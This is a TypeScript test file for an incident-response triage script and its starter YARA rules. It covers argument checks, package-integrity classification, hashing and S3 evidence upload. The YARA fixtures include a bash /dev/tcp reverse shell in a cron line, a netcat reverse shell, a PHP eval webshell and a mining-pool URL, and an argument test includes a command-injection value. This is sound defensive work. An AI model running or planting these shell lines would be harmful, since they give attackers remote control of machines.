// ir-triage (the unattended first-hour triage on the workstation) and its starter YARA rules: the real script,
// run with bash. Reading real devices, mounts and crash dumps is proven in the triage VM proof.
import { expect } from "chai";
import { createHash } from "crypto";
import { mkdirSync, readdirSync, rmSync, writeFileSync } from "fs";
import { join } from "path";
import {
  FORENSICS_AMI_DIR,
  hasCommand,
  runFunction,
  runScript,
  SCRIPTS_DIR,
  tempDir,
  writeTree,
} from "./scriptRunner";

const TRIAGE = join(SCRIPTS_DIR, "ir-triage");
const RULES_DIR = join(FORENSICS_AMI_DIR, "triage-rules");
const md5 = (text: string) => createHash("md5").update(text).digest("hex");
const VALID = ["--incident", "inc-1", "--out", "/tmp/out", "--device", "/dev/vdb"];

describe("ir-triage", () => {
  describe("refuses bad arguments with a clear error (exit 2, usage shown)", () => {
    const cases: [args: string[], message: RegExp][] = [
      [[], /--incident is required/],
      [["--incident", "inc-1", "--device", "/dev/vdb"], /--out is required/],
      [["--incident", "inc-1", "--out", "/tmp/out"], /at least one --volume or --device/],
      [["--incident", "inc 1; rm", ...VALID.slice(2)], /--incident: letters, digits/],
      [[...VALID, "--volume", "vol-XYZ"], /--volume takes an EBS volume id/],
      [[...VALID, "--device", "vdb"], /--device takes a block device path/],
      [[...VALID, "--timeline-hours", "0"], /--timeline-hours takes a whole number/],
      [[...VALID, "--timeline-hours", "12h"], /--timeline-hours takes a whole number/],
      [[...VALID, "--hash-budget-seconds", "-5"], /--hash-budget-seconds takes a whole number/],
      [[...VALID, "--upload", "https://bucket/x/"], /--upload takes s3:\/\/BUCKET\/PREFIX\//],
      [[...VALID, "--upload", "s3://bucket"], /--upload takes s3:\/\/BUCKET\/PREFIX\//],
      [[...VALID, "--rules"], /--rules needs a value/],
      [[...VALID, "--format", "json"], /unknown argument '--format'/],
    ];
    for (const [args, message] of cases) {
      it(`ir-triage ${args.join(" ") || "(nothing)"}`, () => {
        const result = runScript(TRIAGE, args);
        expect(result.status, result.stderr).to.equal(2);
        expect(result.stderr).to.match(message);
        expect(result.stderr).to.include("usage: ir-triage --incident ID --out DIR");
      });
    }

    it("--help prints the usage and exits 0", () => {
      const result = runScript(TRIAGE, ["--help"]);
      expect(result.status).to.equal(0);
      expect(result.stdout).to.include("[--upload s3://BUCKET/incidents/ID/triage/]");
    });
  });

  describe("classify: a file as its package installed it, modified, or not from a package", () => {
    let root: string;
    before(() => {
      root = tempDir("triage");
      // A dpkg database as Debian 12 has it: md5sums name /bin and /usr/bin (usrmerge), conffiles in status.
      writeTree(join(root, "mnt"), {
        "usr/bin/ls": "ls binary\n",
        "usr/bin/su": "su binary, replaced\n",
        "usr/bin/backdoor": "not from any package\n",
        "etc/cron.d/e2scrub_all": "30 3 * * 0 root e2scrub_all\n",
        "etc/cron.d/planted": "* * * * * root /tmp/x\n",
        "var/lib/dpkg/info/coreutils.md5sums": `${md5("ls binary\n")}  bin/ls\n`,
        "var/lib/dpkg/info/login.md5sums": `${md5("su binary\n")}  usr/bin/su\n`,
        "var/lib/dpkg/status": `Package: e2fsprogs\nConffiles:\n /etc/cron.d/e2scrub_all ${md5("30 3 * * 0 root e2scrub_all\n")}\nDescription: x\n`,
      });
      writeFileSync(
        join(root, "list"),
        "usr/bin/ls\nusr/bin/su\nusr/bin/backdoor\netc/cron.d/e2scrub_all\netc/cron.d/planted\n",
      );
    });
    after(() => rmSync(root, { recursive: true, force: true }));

    it("compares with dpkg's md5sums and conffiles, /bin and /usr/bin alike", () => {
      mkdirSync(join(root, "work"));
      const result = runFunction(TRIAGE, 'WORK="$ROOT/work"; classify "$ROOT/mnt" "$ROOT/list"', {
        ROOT: root,
      });
      expect(result.status, result.stderr).to.equal(0);
      expect(result.stdout.trim().split("\n").sort()).to.deep.equal(
        [
          "package\tusr/bin/ls",
          "modified\tusr/bin/su",
          "unowned\tusr/bin/backdoor",
          "package\tetc/cron.d/e2scrub_all",
          "unowned\tetc/cron.d/planted",
        ].sort(),
      );
    });

    it("says unknown where there is no dpkg database (Amazon Linux)", () => {
      const result = runFunction(TRIAGE, 'WORK="$ROOT/work"; classify "$ROOT" "$ROOT/list"', { ROOT: root });
      expect(result.stdout.trim().split("\n")).to.have.length(5);
      expect(result.stdout).to.match(/^unknown\tusr\/bin\/ls$/m);
      expect(result.stdout).not.to.match(/^(package|modified|unowned)/m);
    });
  });

  describe("hashing beyond the budget", () => {
    it("marks a hash that misses the budget 'continuing', and the job still writes it when done", function () {
      this.timeout(20_000);
      const dir = tempDir("triage-hash");
      try {
        // A FIFO stands in for a device whose hash takes longer than the budget: it ends when written to.
        const result = runFunction(
          TRIAGE,
          [
            'OUT="$DIR"; mkfifo "$DIR/device"; NAMES=(vdb); HASH_STARTS=("$(date +%s)"); BUDGET=0',
            'hash_job vdb "$DIR/device" "$DIR" "" & job=$!',
            'wait_for_hashes; echo "at the budget: $(hash_state vdb)"',
            'printf evidence >"$DIR/device"; wait "$job"; echo "later: $(hash_state vdb)"; cat "$DIR/hash-vdb.sha256"',
          ].join("\n"),
          { DIR: dir },
        );
        expect(result.status, result.stderr).to.equal(0);
        expect(result.stdout).to.include("at the budget: continuing");
        expect(result.stdout).to.include("later: done");
        expect(result.stdout).to.include(`${createHash("sha256").update("evidence").digest("hex")}  vdb`);
        expect(readdirSync(dir)).to.include(".hash-vdb.continuing");
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  describe("--upload", () => {
    it("puts every file with a SHA-256 checksum under the prefix, summary.json last", () => {
      const dir = tempDir("triage-upload");
      try {
        // A stand-in aws on the PATH records its calls.
        writeTree(dir, {
          "bin/aws": '#!/bin/sh\necho "$*" >>"$CALLS"\n',
          "out/summary.json": "{}",
          "out/SHA256SUMS": "x",
          "out/crash-ps.txt": "ps",
          "out/.hash-vdb.seconds": "3",
        });
        const result = runFunction(
          TRIAGE,
          'chmod +x "$DIR/bin/aws"; PATH="$DIR/bin:$PATH"; OUT="$DIR/out"; UPLOAD=s3://evidence-bucket/incidents/inc-1/triage/; upload',
          { DIR: dir, CALLS: join(dir, "calls") },
        );
        expect(result.status, result.stderr).to.equal(0);
        const calls = runFunction(TRIAGE, 'cat "$CALLS"', { CALLS: join(dir, "calls") })
          .stdout.trim()
          .split("\n");
        expect(calls).to.deep.equal(
          ["SHA256SUMS", "crash-ps.txt", "summary.json"].map(
            (name) =>
              `s3api put-object --checksum-algorithm SHA256 --bucket evidence-bucket --key incidents/inc-1/triage/${name} --body ${dir}/out/${name}`,
          ),
        );
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  describe("starter YARA rules", function () {
    this.timeout(30_000);
    let dir: string;
    before(function () {
      if (!hasCommand("yara")) {
        console.log("      (yara not installed: apt-get install yara; CI installs it)");
        this.skip();
      }
      dir = tempDir("yara");
    });
    after(() => dir && rmSync(dir, { recursive: true, force: true }));

    const rules = readdirSync(RULES_DIR).filter((name) => name.endsWith(".yar"));

    it("ships the four families, each rule with a description", () => {
      expect(rules).to.have.members([
        "cryptominer.yar",
        "reverse-shell.yar",
        "webshell.yar",
        "ld-preload-rootkit.yar",
      ]);
      for (const name of rules) {
        const text = runFunction(TRIAGE, `cat "${join(RULES_DIR, name)}"`).stdout;
        const ruleCount = (text.match(/^rule /gm) ?? []).length;
        expect((text.match(/description = "/g) ?? []).length, name).to.equal(ruleCount);
      }
    });

    const samples: [file: string, content: string, rule: string | null][] = [
      ["miner.json", '{"url": "stratum+tcp://pool.example.net:3333"}', "cryptominer_stratum_pool"],
      ["cron", "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "reverse_shell_dev_tcp"],
      ["nc.sh", "nc 203.0.113.9 4444 -e /bin/sh\n", "reverse_shell_netcat_socat"],
      ["shell.php", '<?php eval(base64_decode($_POST["c"])); ?>', "webshell_php_eval_request"],
      ["notes.txt", "tcp connections to /dev/null and a bash -i session\n", null],
      ["index.php", '<?php echo htmlspecialchars($_GET["q"]); ?>', null],
    ];
    for (const [file, content, rule] of samples) {
      it(`${file}: ${rule ?? "no match"}`, () => {
        writeFileSync(join(dir, file), content);
        const result = runFunction(
          TRIAGE,
          `set +e; for r in "$STARTER"/*.yar; do yara -w "$r" "$TARGET"; done`,
          { STARTER: RULES_DIR, TARGET: join(dir, file) },
        );
        const matched = result.stdout
          .trim()
          .split("\n")
          .filter(Boolean)
          .map((line) => line.split(" ")[0]);
        if (rule === null) expect(matched, result.stderr).to.deep.equal([]);
        else expect(matched, result.stderr).to.include(rule);
      });
    }
  });
});
